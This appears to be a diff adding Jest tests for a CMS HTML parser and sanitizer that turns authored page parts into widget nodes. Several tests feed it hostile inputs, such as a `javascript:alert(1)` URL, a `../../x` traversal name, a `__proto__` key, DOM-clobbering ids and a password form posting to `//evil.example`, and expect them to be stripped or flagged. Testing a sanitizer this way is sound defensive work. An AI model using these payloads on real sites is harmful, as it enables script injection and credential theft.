@@ -1,0 +1,254 @@
+/** @jest-environment node */
+import type { PageNode, WidgetNode } from "./page-node";
+import { parsePart } from "./parse-part";
+import { serializeNodes } from "./serialize-nodes";
+
+const parse = (html: string, style?: string) => parsePart(html, { scope: "test", style });
+const clean = (html: string) => serializeNodes(parse(html).nodes);
+const codes = (html: string) => parse(html).findings.map((finding) => finding.code);
+
+function widgetsOf(html: string): WidgetNode[] {
+  const visit = (node: PageNode): WidgetNode[] => {
+    if (node.kind === "text" || node.kind === "static") return [];
+    return [...(node.kind === "widget" ? [node] : []), ...node.children.flatMap(visit)];
+  };
+  return parse(html).nodes.flatMap(visit);
+}
+
+const list = `<div class="cms-box-list" items='[{"name":"Dining","url":"/p/dining"}]'>old</div>`;
+
+describe("cutting a part into pieces", () => {
+  test("R4.1 only a widget's ancestors are taken apart; all else stays whole", () => {
+    const { nodes } = parse(
+      `<section><h2>One</h2><p>two <b>three</b></p></section><div class="row"><p>a</p>${list}b</div>tail`,
+    );
+    expect(nodes).toEqual([
+      { kind: "static", tag: "section", attributes: {}, html: "<h2>One</h2><p>two <b>three</b></p>" },
+      {
+        kind: "element",
+        tag: "div",
+        attributes: { class: "row" },
+        children: [
+          { kind: "static", tag: "p", attributes: {}, html: "a" },
+          {
+            kind: "widget",
+            slot: 0,
+            widget: { type: "list", options: { items: [{ name: "Dining", url: "/p/dining" }], gap: "16px" } },
+            tag: "div",
+            attributes: { class: "cms-box-list", items: '[{"name":"Dining","url":"/p/dining"}]' },
+            children: [{ kind: "text", text: "old" }],
+            deferred: false,
+          },
+          { kind: "text", text: "b" },
+        ],
+      },
+      { kind: "text", text: "tail" },
+    ]);
+  });
+
+  test("R4.1 slots are numbered in document order, nested ones too", () => {
+    const html = `<div class="cms-box-login"><a class="cms-login-button" provider="hyatt">in</a>
+      <div class="cms-box-popup" popupid="p">x</div></div><ul><li class="cms-box-profile"></li></ul>`;
+    expect(widgetsOf(html).map(({ slot, widget }) => [slot, widget.type])).toEqual([
+      [0, "login"],
+      [1, "login-button"],
+      [2, "popup"],
+      [3, "profile"],
+    ]);
+  });
+
+  test("R4.6 a login button outside a login box is an ordinary element", () => {
+    expect(clean('<a class="cms-login-button" provider="kakao">x</a>')).toBe(
+      '<a class="cms-login-button">x</a>',
+    );
+  });
+
+  test.each([
+    [
+      "ordinary markup",
+      '<div class="a b" data-x="1"><p style="color:red; margin:0 ">Tea &amp; cake&nbsp;</p></div>',
+    ],
+    ["attributes in the author's order", '<img width="3" alt="x" src="/a.png" class="z">'],
+    ["an author's own spacing", "<ul>\n  <li>a</li>\n\t<li>b</li>\n</ul>"],
+    ["a leading newline in pre", "<pre>\n\nline</pre>"],
+    ["a whole table", '<table border="0"><tbody><tr><td colspan="2">a</td></tr></tbody></table>'],
+    ["Korean text", "<p>여울 호텔 — ‘저녁’ 😀</p>"],
+    ["an inline drawing", '<svg viewBox="0 0 2 2"><path d="M0 0h1" fill="#b11"></path></svg>'],
+    ["background pictures", '<div style="background-image:url(https://m.example/a.jpg)">x</div>'],
+    ["sticky positions", '<div style="position: sticky; top: 0">x</div>'],
+    ["our design tokens", '<p style="color: var(--saffron-ink)">x</p>'],
+    ["mail and telephone links", '<a href="mailto:a@b.example">m</a><a href="tel:+82-2-1">t</a>'],
+  ])("R4.1 %s come out byte for byte, without a finding", (_what, html) => {
+    expect(clean(html)).toBe(html);
+    expect(codes(html)).toEqual([]);
+  });
+
+  test("R4.1 Word's markup keeps its text and says nothing", () => {
+    const html = `<p class="MsoNormal" style="mso-list:l0;margin:0"><!--[if gte mso 9]><xml></xml><![endif]--><span lang="EN-US">Menu<o:p>&nbsp;</o:p></span></p>`;
+    expect(clean(html)).toBe(
+      '<p class="MsoNormal" style="margin:0"><span lang="EN-US">Menu&nbsp;</span></p>',
+    );
+    expect(codes(html)).toEqual([]);
+  });
+
+  test("a finding knows the author's line", () => {
+    expect(parse("<p>a</p>\n\n<script>x</script>").findings).toEqual([
+      { code: "script-removed", detail: "script", line: 3 },
+    ]);
+  });
+});
+
+describe("where flow markup would be torn apart", () => {
+  const slot = '<span class="cms-box-profile"></span>';
+  test.each([
+    [`<div>${slot}</div>`, false],
+    [`<p>${slot}</p>`, true],
+    [`<a href="/x"><b>${slot}</b></a>`, true],
+    [`<button>${slot}</button>`, true],
+    [`<h2>${slot}</h2>`, false],
+    [`<ul><li>${slot}</li></ul>`, false],
+    [`<table><tbody><tr><td>${slot}</td></tr></tbody></table>`, false],
+    [`<a href="/x"><table><tbody><tr><td>${slot}</td></tr></tbody></table></a>`, false],
+    [`<table><caption>${slot}</caption></table>`, false],
+    [`<table><tbody><tr><td><p>${slot}</p></td></tr></tbody></table>`, true],
+    ['<table><tbody><tr class="cms-box-profile"><td>x</td></tr></tbody></table>', true],
+    ['<table class="cms-box-profile"><tbody></tbody></table>', true],
+    ['<table><tbody><tr><td class="cms-box-profile">x</td></tr></tbody></table>', false],
+    ['<p class="cms-box-profile">x</p>', true],
+    ['<a class="cms-box-profile">x</a>', true],
+    ['<h3 class="cms-box-profile">x</h3>', true],
+  ])("R4.1 %s → deferred %s", (html, deferred) => {
+    expect(widgetsOf(html).map((widget) => widget.deferred)).toEqual([deferred]);
+  });
+});
+
+describe("blocks that stay as authored", () => {
+  test.each([
+    ['<div class="cms-box-carousel">x</div>', "unknown-widget"],
+    ['<img class="cms-box-action" src="/a.png">', "void-widget"],
+    ['<svg><g class="cms-box-action"></g></svg>', "void-widget"],
+    ['<div class="cms-box-list" items="not json">x</div>', "widget-json"],
+    ['<div class="cms-box-list">x</div>', "widget-attributes"],
+    ['<div class="cms-box-popup" popupid="a b">x</div>', "widget-attributes"],
+    ['<div class="cms-box-select" type="colour">x</div>', "widget-attributes"],
+    [`<div class="cms-box-action" action='{"type":"link"}'>x</div>`, "action-incomplete"],
+    [`<div class="cms-box-action" action='{"type":"file"}'>x</div>`, "action-incomplete"],
+    [
+      `<div class="cms-box-action" action='{"type":"link","url":"javascript:alert(1)"}'>x</div>`,
+      "action-incomplete",
+    ],
+    [`<div class="cms-box-action" action='{"type":"move-page"}'>x</div>`, "action-incomplete"],
+    [
+      `<div class="cms-box-action" action='{"type":"move-page","name":"../../x"}'>x</div>`,
+      "action-incomplete",
+    ],
+    [
+      `<div class="cms-box-action" action='{"type":"move-page","name":"promotion"}'>x</div>`,
+      "action-incomplete",
+    ],
+    [`<div class="cms-box-action" action='{"type":"login","__proto__":{"a":1}}'>x</div>`, "widget-json"],
+  ])("R4.7 R4.12 %s gives %s", (html, code) => {
+    expect(widgetsOf(html)).toEqual([]);
+    expect(codes(html)).toEqual([code]);
+  });
+
+  test("R4.1 a block that stays as authored keeps no options, and its neighbours live", () => {
+    const html = `<div><div class="cms-box-list" items="[]">x</div>${list}</div>`;
+    expect(clean(html)).toContain('<div class="cms-box-list">x</div>');
+    expect(widgetsOf(html).map(({ widget }) => widget.type)).toEqual(["list"]);
+  });
+});
+
+describe("event boxes", () => {
+  const box = (attributes: string, inside: string) =>
+    `<div class="cms-box-event" ${attributes}>${inside}</div>`;
+  const button = "<button>Go</button>";
+
+  test.each(["0", "31", " 7 "])("R4.12 eventid %j is a non-negative number", (id) => {
+    expect(widgetsOf(box(`eventid="${id}"`, button)).map(({ widget }) => widget.type)).toEqual([
+      "event",
+      "event-submit",
+    ]);
+  });
+
+  test.each(["", "-1", "1e999", "0x1", "abc", "1 2", "NaN", "Infinity", "1e3"])(
+    "R4.12 eventid %j is not",
+    (id) => {
+      expect(widgetsOf(box(`eventid="${id}"`, button))).toEqual([]);
+      expect(codes(box(`eventid="${id}"`, button))).toEqual(["event-id"]);
+    },
+  );
+
+  test.each([
+    ["none", "<p>x</p>", 0],
+    ["one button", "<p><button>Go</button></p>", 1],
+    ["one marked element", '<a class="btn cms-dummy-button">Go</a>', 1],
+    ["a button marked as well", '<button class="cms-dummy-button">Go</button>', 1],
+    ["a marked wrapper around a button", '<div class="cms-dummy-button"><button>Go</button></div>', 1],
+    ["two buttons", "<button>a</button><button>b</button>", 2],
+    ["a button and a marked element", '<button>a</button><i class="cms-dummy-button">b</i>', 2],
+    [
+      "one beside an action of its own",
+      `<button>a</button><button class="cms-box-action" action='{"type":"share"}'>b</button>`,
+      1,
+    ],
+  ])("R4.12 with %s inside", (_what, inside, count) => {
+    const html = box('eventid="1"', inside);
+    const types = widgetsOf(html).map(({ widget }) => widget.type);
+    expect(types.includes("event-submit")).toBe(count === 1);
+    expect(codes(html)).toEqual(count === 1 ? [] : ["event-dummy-button"]);
+  });
+
+  test("R4.12 the submit button keeps the dummy's tag, looks and content", () => {
+    const [, submit] = widgetsOf(
+      box('eventid="1"', '<div><a class="cms-dummy-button big" style="color:red">Join <b>now</b></a></div>'),
+    );
+    expect(submit).toMatchObject({
+      tag: "a",
+      attributes: { class: "cms-dummy-button big", style: "color:red" },
+      children: [
+        { kind: "text", text: "Join " },
+        { kind: "static", tag: "b", html: "now" },
+      ],
+      deferred: false,
+    });
+  });
+
+  test("R4.12 each attribute that is not JSON is ignored on its own", () => {
+    const html = box(
+      `eventid="1" question="oops" condition='[{"type":"raw","option":"_WOH_BIND_"}]' actionfinish='{"type":"link"}'`,
+      button,
+    );
+    expect(widgetsOf(html)[0]?.widget).toEqual({
+      type: "event",
+      options: { eventid: 1, question: [], condition: [{ type: "raw", option: "_WOH_BIND_" }] },
+    });
+    expect(parse(html).findings.map(({ code, detail }) => [code, detail])).toEqual([
+      ["widget-json", "question"],
+      ["action-incomplete", "actionfinish"],
+    ]);
+  });
+});
+
+test("case 34: a form loses its frame but not its words", () => {
+  const html =
+    '<form action="//evil.example"><label>Name <input type="password" name="p"></label><button>Send</button></form>';
+  expect(clean(html)).toBe('<label>Name </label><button type="button">Send</button>');
+});
+
+test("case 28: no authored id or name can stand in for a property of the document", () => {
+  expect(
+    clean(
+      '<img name=getElementById><form id=__next_f>x</form><a id=default name="x">y</a><a href="#default">z</a>',
+    ),
+  ).toBe('<img>x<a id="cms-default">y</a><a href="#cms-default">z</a>');
+});
+
+test("R2.4 meta.style comes with the part and names its animations for inline styles too", () => {
+  const { nodes, css } = parsePart('<p style="animation: fade 1s">x</p>', {
+    scope: "7-top",
+    style: "@keyframes fade{from{opacity:0}}",
+  });
+  expect(css).toBe("@keyframes part-7-top-fade{from{opacity:0}}");
+  expect(serializeNodes(nodes)).toBe('<p style="animation: part-7-top-fade 1s">x</p>');
+});
